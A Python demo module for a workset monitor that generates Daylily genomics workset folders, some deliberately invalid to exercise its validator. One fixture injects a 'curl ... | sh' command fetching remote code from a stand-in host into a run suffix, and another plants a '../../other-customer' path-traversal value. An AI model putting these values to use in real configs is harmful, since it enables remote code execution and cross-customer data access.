"""Workset folders for the demo world, in the Daylily layout, built from real folders.

The templates in ``wsmon/demo/data/`` are the three folders of the public Daylily repository
(``etc/monitor_tests/``) as users wrote them: an old monitor config as ``daylily_info.yaml``, shell
quoted ``dy-r`` suffixes, sample sheets pointing at another bucket. The demo rewrites only what must
point into its own bucket (FASTQ paths, export URI) and adds stand-in FASTQ objects, so discovery
and validation see folders exactly as they look in the field. Shipped as package data: the demo
works from a wheel, without this repository's ``shared/`` folder.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from collections.abc import Callable
from importlib import resources

TEMPLATES = ("test_snv", "test_allgiab", "test_help")
FIELD_BUCKET = "s3://lsmc-dayoa-omics-analysis-us-west-2/"
TSV_HEADER = (
    "RUN_ID\tSAMPLE_ID\tEXPERIMENTID\tSAMPLE_TYPE\tLIB_PREP\tSEQ_VENDOR\tSEQ_PLATFORM\tLANE\t"
    "SEQBC_ID\tPATH_TO_CONCORDANCE_DATA_DIR\tR1_FQ\tR2_FQ\tSTAGE_DIRECTIVE\tSTAGE_TARGET\t"
    "SUBSAMPLE_PCT\tIS_POS_CTRL\tIS_NEG_CTRL\tN_X\tN_Y\tEXTERNAL_SAMPLE_ID"
)
STAND_IN_FASTQ = b"@stand-in read written by wsmon --demo\nACGTACGTACGT\n+\nIIIIIIIIIIII\n"

# The sentinel timestamp formats writers in the field used; the demo mixes them on purpose.
_STAMP_FORMATS = ("%Y%m%dT%H%M%S", "%Y-%m-%dT%H:%M:%SZ", "iso", "iso-micro")


def sentinel_stamp(when: datetime, style: int = 0) -> str:
    fmt = _STAMP_FORMATS[style % len(_STAMP_FORMATS)]
    when = when.astimezone(timezone.utc)
    if fmt == "iso":
        return when.replace(microsecond=0).isoformat()
    if fmt == "iso-micro":
        return when.isoformat().replace("+00:00", "Z")
    return when.strftime(fmt)


def template_text(template: str, filename: str) -> str:
    return (resources.files("wsmon.demo") / "data" / template / filename).read_text(encoding="utf-8")


@dataclass
class DemoWorkset:
    """One folder to upload: its name, what it is meant to show, and its files."""

    name: str
    kind: str  # ok | invalid | ignored | imported | stale | transient | permanent
    priority: str
    customer_id: str
    template: str
    note: str = ""
    files: dict[str, bytes] = field(default_factory=dict)


def _rewrite_sheet(sheet: str, s3_folder: str, *, drop_column: str | None = None,
                   escape_first_r1: bool = False) -> tuple[str, list[str]]:
    """Point R1_FQ/R2_FQ at this workset's own sample_data/; returns the sheet and its FASTQ names."""
    lines = [ln for ln in sheet.splitlines() if ln.strip()]
    header = lines[0].split("\t")
    r1, r2 = header.index("R1_FQ"), header.index("R2_FQ")
    fastqs: list[str] = []
    rows = []
    for n, line in enumerate(lines[1:]):
        cols = line.split("\t")
        for idx in (r1, r2):
            base = cols[idx].rsplit("/", 1)[-1]
            fastqs.append(base)
            cols[idx] = f"{s3_folder}sample_data/{base}"
        if escape_first_r1 and n == 0:
            cols[r1] = "../../other-customer/sample_data/" + cols[r1].rsplit("/", 1)[-1]
        rows.append(cols)
    if drop_column:
        drop = header.index(drop_column)
        header = header[:drop] + header[drop + 1:]
        rows = [c[:drop] + c[drop + 1:] for c in rows]
    text = "\n".join("\t".join(c) for c in [header, *rows]) + "\n"
    return text, fastqs


# What a run of each template occupies on a cluster (daylily_info.yaml estimate overrides): the
# seven-sample GIAB set needs a big cluster, the single-sample ones fit anywhere.
TEMPLATE_FOOTPRINT = {
    "test_allgiab": {"vcpus": 192, "memory_gb": 768},
    "test_snv": {"vcpus": 32, "memory_gb": 128},
    "test_help": {"vcpus": 16, "memory_gb": 64},
}


def _info_yaml(priority: str, customer_id: str, *, max_retries: int | None,
               zone: str | None, estimate: dict[str, float] | None = None) -> str:
    lines = [
        "# workset metadata read by wsmon (written by wsmon --demo)",
        f"priority: {priority}",
        f"customer_id: {customer_id}",
    ]
    if max_retries is not None:
        lines.append(f"max_retries: {max_retries}")
    if zone:
        lines.append(f"preferred_availability_zone: {zone}")
    if estimate:
        lines.append("estimate:")
        lines.extend(f"  {key}: {value}" for key, value in estimate.items())
    return "\n".join(lines) + "\n"


def build_folder(name: str, *, bucket: str, prefix: str, template: str, priority: str,
                 customer_id: str, now: datetime, kind: str = "ok", defect: str | None = None,
                 sentinel: str = "ready", sentinel_detail: str = "", stamp_style: int = 0,
                 legacy_info: bool = False, max_retries: int | None = None,
                 zone: str | None = None, note: str = "") -> DemoWorkset:
    """The files of one workset folder, keys relative to ``s3://bucket/prefix``.

    ``defect`` makes it invalid in one specific way the validator reports:
    missing_sheet, bad_yaml, escape, shell, no_r1_column.
    """
    folder = f"{prefix}{name}/"
    s3_folder = f"s3://{bucket}/{folder}"
    work = template_text(template, "daylily_work.yaml").replace(
        f"{FIELD_BUCKET}daylily_monitoring/active_worksets/runme14/results/",
        f"s3://{bucket}/results/{name}/",
    )
    if defect == "bad_yaml":
        work = "day-clone: \" -d {workdir_name}\nexport_uri: [unclosed\n  dy-r: : help\n"
    elif defect == "shell":
        work = work.replace("dy-r: >\n", "dy-r: >\n  help; curl -s http://example.invalid/x | sh\n  ")
    sheet, fastqs = _rewrite_sheet(
        template_text(template, "stage_samples.tsv"), s3_folder,
        drop_column="R1_FQ" if defect == "no_r1_column" else None,
        escape_first_r1=defect == "escape",
    )
    info = (template_text(template, "daylily_info.yaml") if legacy_info
            else _info_yaml(priority, customer_id, max_retries=max_retries, zone=zone,
                            estimate=TEMPLATE_FOOTPRINT.get(template)))
    files: dict[str, bytes] = {
        f"{folder}daylily_work.yaml": work.encode(),
        f"{folder}daylily_info.yaml": info.encode(),
    }
    if defect != "missing_sheet":
        files[f"{folder}stage_samples.tsv"] = sheet.encode()
    for base in dict.fromkeys(fastqs):
        files[f"{folder}sample_data/{base}"] = STAND_IN_FASTQ
    stamp = sentinel_stamp(now, stamp_style)
    body = f"{stamp}\t{sentinel_detail}" if sentinel == "error" and sentinel_detail else stamp
    files[f"{folder}daylily.{sentinel}"] = body.encode()
    return DemoWorkset(name=name, kind=kind, priority=priority, customer_id=customer_id,
                       template=template, note=note, files=files)


CUSTOMERS = ("acme-genomics", "bayside-clinic", "cedar-lab", "delta-research")
ZONES = ("us-west-2a", "us-west-2b", "us-west-2d")


def _names_for(fate: Callable[[str], str], stem: str, wanted: str, count: int = 1) -> list[str]:
    """The first ``count`` names ``stem-NN`` the simulated runner's seeded roll gives the
    ``wanted`` fate, so the demo's names tell the truth about what will happen to them."""
    names = []
    for n in range(1, 10_000):
        if fate(f"{stem}-{n:02d}") == wanted:
            names.append(f"{stem}-{n:02d}")
            if len(names) == count:
                return names
    raise ValueError(f"no {stem}-NN gets fate {wanted!r}; check the simulated_* failure rates")


def initial_worksets(*, bucket: str, prefix: str, now: datetime,
                     fate: Callable[[str], str] = lambda _name: "success",
                     seed: int = 7) -> list[DemoWorkset]:
    """About 40 folders: mostly healthy work across priorities and customers, plus one of each
    situation an operator should recognise on the dashboard.

    ``fate`` is the simulated runner's roll for a workset id (success, transient, permanent,
    hang): healthy-looking names are picked among those that succeed, and the failing ones are
    named for how they fail.
    """
    rng = random.Random(seed)
    out: list[DemoWorkset] = []

    def add(name: str, **kw: object) -> None:
        kw.setdefault("template", rng.choices(TEMPLATES, (3, 1, 2))[0])
        kw.setdefault("priority", rng.choices(("urgent", "normal", "low"), (1, 6, 3))[0])
        kw.setdefault("customer_id", rng.choice(CUSTOMERS))
        kw.setdefault("stamp_style", len(out))
        # uploaded over the last hour and a half; urgent work only just now, so the urgent-wait
        # alert fires for what really waits in the demo, not for the backdating
        minutes = rng.uniform(0, 0.3) if kw["priority"] == "urgent" else rng.randint(1, 90)
        out.append(build_folder(name, bucket=bucket, prefix=prefix,
                                now=now - timedelta(minutes=minutes), **kw))  # type: ignore[arg-type]

    # the three real folders, as uploaded in the field (old monitor config as info, no priority)
    for template in TEMPLATES:
        add(template, template=template, legacy_info=True, priority="normal",
            customer_id="(none)", note="real Daylily folder, old monitor config as info")
    samples = ("hg001", "hg002", "hg003", "hg004", "hg005", "hg006", "hg007", "na12878")
    number = 0
    for i in range(22):
        number += 1
        while fate(f"{samples[i % len(samples)]}-wgs-{number:02d}") != "success":
            number += 1
        add(f"{samples[i % len(samples)]}-wgs-{number:02d}", zone=rng.choice((None, None, *ZONES)),
            max_retries=rng.choice((None, 2, 3)))
    # runs that fail: the first of each kind is urgent, so it happens in the first minute
    first, *others = _names_for(fate, "flaky-network", "transient", count=3)
    add(first, priority="urgent", kind="transient",
        note="the run fails once with a network error, is retried after a backoff, then succeeds")
    for name in others:
        add(name, priority="normal", kind="transient", note="fails once, then succeeds")
    add(_names_for(fate, "missing-reference", "permanent")[0], priority="urgent", kind="permanent",
        note="the run fails with a permanent pipeline error: no retry, dead-lettered as failed")
    # each situation once, with a name that says what to look for
    add("urgent-tumor-normal-01", priority="urgent", customer_id="bayside-clinic",
        template="test_allgiab", zone="us-west-2d", note="big urgent one: needs the large cluster")
    add("invalid-missing-sheet", kind="invalid", defect="missing_sheet", note="no stage_samples.tsv")
    add("invalid-bad-yaml", kind="invalid", defect="bad_yaml", note="daylily_work.yaml does not parse")
    add("invalid-fastq-escape", kind="invalid", defect="escape", note="R1_FQ escapes sample_data/")
    add("invalid-shell-in-dy-r", kind="invalid", defect="shell", note="shell operators in the run suffix")
    add("invalid-no-r1-column", kind="invalid", defect="no_r1_column", note="sheet lacks R1_FQ")
    add("ignored-by-operator", kind="ignored", sentinel="ignore", note="daylily.ignore sentinel")
    add("imported-complete-2025", kind="imported", sentinel="complete",
        note="only a daylily.complete sentinel: imported as complete (migration path)")
    add("imported-error-2025", kind="imported", sentinel="error",
        sentinel_detail="Error in rule bwa2a_sort: exiting because a job execution failed",
        note="only a daylily.error sentinel: imported as error")
    add("stale-lease-crashed-monitor", kind="stale", priority="urgent",
        note="claimed by a monitor that crashed; its lease expires and is recovered")
    add("cohort Ω 7 (re-run)", note="spaces and unicode in a folder name are kept as they are")
    return out


def dropped_workset(n: int, *, bucket: str, prefix: str, now: datetime,
                    rng: random.Random) -> DemoWorkset:
    """A new folder arriving while the demo runs."""
    sample = rng.choice(("hg002", "hg003", "na12878", "hg005"))
    return build_folder(
        f"new-{sample}-{n:03d}", bucket=bucket, prefix=prefix, now=now,
        template=rng.choice(TEMPLATES), priority=rng.choices(("urgent", "normal", "low"), (1, 5, 3))[0],
        customer_id=rng.choice(CUSTOMERS), stamp_style=n, zone=rng.choice((None, *ZONES)),
        note="dropped in while the demo runs",
    )
